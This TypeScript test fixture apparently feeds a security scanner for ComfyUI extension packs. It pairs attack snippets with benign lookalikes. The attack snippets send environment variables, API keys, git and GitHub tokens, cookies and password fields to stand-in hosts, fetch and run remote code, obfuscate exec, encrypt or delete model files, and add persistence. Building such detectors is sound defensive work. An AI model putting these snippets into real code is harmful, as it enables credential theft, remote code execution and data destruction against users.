import { type Attack, python, script } from './attack-pack.test-support.ts'

const app = 'import { app } from "../../scripts/app.js"\n'
const api = 'import { api } from "../../scripts/api.js"\n'

/** Attacks through libraries and services whose purpose is another one. */
export const libraryAttacks: Attack[] = [
  python(
    'lets a library for mathematics evaluate what an address answers',
    'import sympy, requests\nsympy.sympify(requests.get("https://example.test/e").text)',
    'import sympy\nsympy.sympify("x + 1")',
  ),
  python(
    'sets up its logging with what an address answers',
    'import logging.config, requests\nlogging.config.dictConfig(requests.get("https://example.test/c").json())',
    'import logging.config, json\nlogging.config.dictConfig(json.load(open("log.json")))',
  ),
  python(
    'starts a notebook server without a password',
    'import subprocess\nsubprocess.Popen(["jupyter", "lab", "--ip=0.0.0.0", "--ServerApp.token=", "--ServerApp.password="])',
    'import subprocess\nsubprocess.Popen(["jupyter", "lab", "--no-browser"])',
  ),
  python(
    'shares a terminal',
    'import os\nos.system("ttyd -p 7681 -W bash &")',
    'import os\nos.system("stty size")',
  ),
  python(
    'builds the objects that other machines send',
    'from multiprocessing.connection import Listener\nlistener = Listener(("0.0.0.0", 6000))\nlistener.accept().recv()',
    'from multiprocessing.connection import Listener\nlistener = Listener(("127.0.0.1", 6000))\nlistener.accept().recv()',
  ),
  python(
    'waits for a debugger of the whole network',
    'import debugpy\ndebugpy.listen(("0.0.0.0", 5678))',
    'import debugpy\ndebugpy.listen(("127.0.0.1", 5678))',
  ),
  python(
    'puts what it downloaded into every program that starts',
    'import os, urllib.request\nurllib.request.urlretrieve("https://example.test/l.so", "/tmp/l.so")\nos.environ["LD_PRELOAD"] = "/tmp/l.so"',
    'import os\nos.environ["LD_PRELOAD"] = "/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4"',
  ),
  python(
    'lowers the protection of the manager',
    'import configparser, os, folder_paths\npath = os.path.join(folder_paths.get_user_directory(), "default", "ComfyUI-Manager", "config.ini")\nc = configparser.ConfigParser()\nc.read(path)\nc["default"]["security_level"] = "weak"\nc.write(open(path, "w"))',
    'import configparser\nc = configparser.ConfigParser()\nc.read("mypack.ini")\nc["default"]["quality_level"] = "weak"\nc.write(open("mypack.ini", "w"))',
  ),
  python(
    'puts another tree into the folder of its repository',
    'import subprocess, os\nhere = os.path.dirname(__file__)\nsubprocess.run(["git", "-C", here, "fetch", "origin", "next"])\nsubprocess.run(["git", "-C", here, "read-tree", "-u", "--reset", "FETCH_HEAD"])',
    'import subprocess, os\nhere = os.path.dirname(__file__)\nsubprocess.run(["git", "-C", here, "ls-tree", "HEAD"])',
  ),
  python(
    'mails the environment',
    'import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content("\\n".join(f"{k}={v}" for k, v in os.environ.items()))\nsmtplib.SMTP("mail.example.test").send_message(m)',
    'import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content("The queue is empty.")\nsmtplib.SMTP("mail.example.test").send_message(m)',
  ),
  python(
    'copies the outputs of the user to a server of its own',
    'import ftplib, folder_paths, os\nftp = ftplib.FTP("ftp.example.test", "u", "p")\nout = folder_paths.get_output_directory()\nfor name in os.listdir(out):\n    ftp.storbinary("STOR " + name, open(os.path.join(out, name), "rb"))',
    'import ftplib\nclass Upload:\n    def run(self, path, host, user, password):\n        ftplib.FTP(host, user, password).storbinary("STOR a.png", open(path, "rb"))',
  ),
  python(
    'uploads the outputs of the user to an account at a hub',
    'import folder_paths\nfrom huggingface_hub import HfApi\nHfApi().upload_folder(folder_path=folder_paths.get_output_directory(), repo_id="someone/results")',
    'from huggingface_hub import HfApi\nclass Upload:\n    def run(self, folder, repo):\n        HfApi().upload_folder(folder_path=folder, repo_id=repo)',
  ),
  python(
    'keeps exec as a method of a class',
    'import requests\nclass Task:\n    run = staticmethod(exec)\n    def __call__(self):\n        type(self).run(requests.get("https://example.test").text)\nTask()()',
    'import requests\nclass Task:\n    run = staticmethod(print)\n    def __call__(self):\n        type(self).run(requests.get("https://example.test").text)\nTask()()',
  ),
  python(
    'asks the manager to install a repository',
    'import requests\nrequests.post("http://127.0.0.1:8188/customnode/install/git_url", data="https://example.test/a.git")',
    'import requests\nrequests.get("http://127.0.0.1:8188/customnode/getlist?mode=cache")',
  ),
  script(
    'asks the manager to install a repository from its script',
    `${api}api.fetchApi("/customnode/install/git_url", { method: "POST", body: "https://example.test/a.git" })`,
    `${api}api.fetchApi("/customnode/getlist?mode=cache")`,
  ),
  script(
    'writes a page with a foreign script into a frame',
    'const f = document.createElement("iframe"); f.srcdoc = "<script src=https://example.test/a.js></scr" + "ipt>"; document.body.append(f)',
    'const f = document.createElement("iframe"); f.srcdoc = "<p>Hello</p>"; document.body.append(f)',
  ),
  script(
    'sends the workflow through a channel between browsers',
    `${app}const c = new RTCPeerConnection().createDataChannel("x"); c.onopen = async () => c.send(JSON.stringify(await app.graphToPrompt()))`,
    'const c = new RTCPeerConnection().createDataChannel("x"); c.onopen = () => c.send("hello")',
  ),
  script(
    'hides the workflow in the address of a background',
    `${app}const w = JSON.stringify(app.graph.serialize()); document.body.style.background = \`url(https://example.test/p?d=\${encodeURIComponent(w)})\``,
    `${app}document.body.style.background = "url(/extensions/x/bg.png)"`,
  ),
  script(
    'copies what the page sends to its server',
    `${api}const old = api.fetchApi.bind(api); api.fetchApi = async (route, options) => { navigator.sendBeacon("https://example.test/c", options?.body); return old(route, options) }`,
    `${api}const old = api.fetchApi.bind(api); api.fetchApi = async (route, options) => { console.debug(route); return old(route, options) }`,
  ),
  script(
    'sends what other extensions keep in the browser',
    'indexedDB.databases().then((all) => { for (const { name } of all) { const r = indexedDB.open(name); r.onsuccess = () => { const s = r.result.transaction("a").objectStore("a").getAll(); s.onsuccess = () => fetch("https://example.test", { method: "POST", body: JSON.stringify(s.result) }) } } })',
    'const r = indexedDB.open("my-pack"); r.onsuccess = () => { const s = r.result.transaction("a").objectStore("a").getAll(); s.onsuccess = () => show(s.result) }',
  ),
]

/** Attacks through programs, endpoints and elements that look like everyday ones. */
export const everydayAttacks: Attack[] = [
  python(
    'unpacks the archive of a foreign repository over itself',
    'import subprocess, os\nhere = os.path.dirname(__file__)\nsubprocess.run(f"git archive --remote=https://example.test/r.git HEAD | tar -x -C {here}", shell=True)',
    'import subprocess, os\nhere = os.path.dirname(__file__)\nsubprocess.run(f"git -C {here} archive HEAD | tar -t", shell=True)',
  ),
  python(
    'evaluates a part of each prompt',
    'from server import PromptServer\ndef handle(data):\n    eval(data["extra_data"]["x"])\n    return data\nPromptServer.instance.add_on_prompt_handler(handle)',
    'from server import PromptServer\ndef handle(data):\n    print(data["extra_data"]["x"])\n    return data\nPromptServer.instance.add_on_prompt_handler(handle)',
  ),
  python(
    'writes a short program in escapes',
    String.raw`exec("\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x6f\x73\x2e\x6b\x69\x6c\x6c")`,
    String.raw`exec("import os # \x69")`,
  ),
  python(
    'writes a program as one number',
    'n = 112762377163273\nexec(n.to_bytes(8, "big").decode())',
    'n = 112762377163273\nprint(n.to_bytes(8, "big"))',
  ),
  python(
    'collects the secrets of all packs',
    'import pathlib, requests, folder_paths\nfor p in pathlib.Path(folder_paths.base_path).rglob(".env"):\n    requests.post("https://example.test/e", data=p.read_text())',
    'import pathlib, requests\nfor p in (pathlib.Path(__file__).parent / "presets").rglob("*.json"):\n    requests.post("https://example.test/e", data=p.read_text())',
  ),
  python(
    'searches all objects of the process for keys',
    'import gc, requests\nfor one in gc.get_objects():\n    if isinstance(one, dict) and "api_key" in one:\n        requests.post("https://example.test/k", json={"k": one["api_key"]})',
    'import gc, requests\nrequests.post("https://example.test/k", json={"k": len(gc.get_objects())})',
  ),
  python(
    'watches the variables of all functions',
    'import sys, requests\ndef watch(frame, event, arg):\n    requests.post("https://example.test", data=str(frame.f_locals))\n    return watch\nsys.settrace(watch)',
    'import sys\ndef watch(frame, event, arg):\n    print(frame.f_lineno)\n    return watch\nsys.settrace(watch)',
  ),
  python(
    'reads the history from the tool’s server and sends it on',
    'import requests\nhistory = requests.get("http://127.0.0.1:8188/history").json()\nrequests.post("https://example.test/h", json=history)',
    'import requests\nstats = requests.get("http://127.0.0.1:8188/system_stats").json()\nrequests.post("https://example.test/h", json=stats)',
  ),
  python(
    'asks a program for the user’s token',
    'import subprocess, requests\ntoken = subprocess.check_output(["gh", "auth", "token"]).decode()\nrequests.post("https://example.test", json={"t": token})',
    'import subprocess, requests\nversion = subprocess.check_output(["gh", "--version"]).decode()\nrequests.post("https://example.test", json={"v": version})',
  ),
  python(
    'asks git for stored passwords',
    'import subprocess, requests\nr = subprocess.run(["git", "credential", "fill"], input="host=github.com", text=True, capture_output=True)\nrequests.post("https://example.test", data=r.stdout)',
    'import subprocess, requests\nr = subprocess.run(["git", "--version"], text=True, capture_output=True)\nrequests.post("https://example.test", data=r.stdout)',
  ),
  python(
    'encrypts the models with a program',
    'import subprocess, folder_paths\nsubprocess.run(f"find {folder_paths.models_dir} -type f -exec openssl enc -aes-256-cbc -k x -in {{}} -out {{}}.enc ; -delete", shell=True)',
    'import subprocess, folder_paths\nsubprocess.run(f"find {folder_paths.models_dir} -type f -name x.ckpt", shell=True)',
  ),
  python(
    'deletes the checkpoints with a command',
    'import os, folder_paths\nos.system(f"rm -rf {folder_paths.models_dir}/checkpoints/*")',
    'import os, folder_paths\nos.system(f"ls {folder_paths.models_dir}/checkpoints/*")',
  ),
  python(
    'lets the system start a program every hour',
    'import subprocess\nsubprocess.run(["systemd-run", "--user", "--on-calendar=hourly", "/tmp/x"])',
    'import subprocess\nsubprocess.run(["systemctl", "--version"])',
  ),
  script(
    'sends the results of every node to a stranger',
    `${app}app.registerExtension({ name: "a", beforeRegisterNodeDef(type) { const old = type.prototype.onExecuted; type.prototype.onExecuted = function (message) { fetch("https://example.test/o", { method: "POST", body: JSON.stringify(message) }); return old?.apply(this, arguments) } } })`,
    `${app}app.registerExtension({ name: "a", beforeRegisterNodeDef(type) { const old = type.prototype.onExecuted; type.prototype.onExecuted = function (message) { show(message); return old?.apply(this, arguments) } } })`,
  ),
  script(
    'reads the fields for passwords',
    'setInterval(() => { for (const field of document.querySelectorAll("input[type=password]")) navigator.sendBeacon("https://example.test/p", field.value) }, 2000)',
    'setInterval(() => { for (const field of document.querySelectorAll("input.mypack-query")) navigator.sendBeacon("https://example.test/p", field.value) }, 2000)',
  ),
  script(
    'submits cookies in a form',
    'const f = document.createElement("form"); f.action = "https://example.test/f"; const i = document.createElement("input"); i.value = document.cookie; f.append(i); document.body.append(f); f.submit()',
    'const f = document.createElement("form"); f.action = "https://example.test/f"; const i = document.createElement("input"); i.value = "upscale"; f.append(i); document.body.append(f); f.submit()',
  ),
  script(
    'hands the workflow to a foreign frame',
    `${app}const f = document.createElement("iframe"); f.src = "https://example.test/c"; document.body.append(f); f.onload = async () => f.contentWindow.postMessage(await app.graphToPrompt(), "*")`,
    `${app}const f = document.createElement("iframe"); f.src = "/extensions/x/c.html"; document.body.append(f); f.onload = async () => f.contentWindow.postMessage(await app.graphToPrompt(), "*")`,
  ),
]
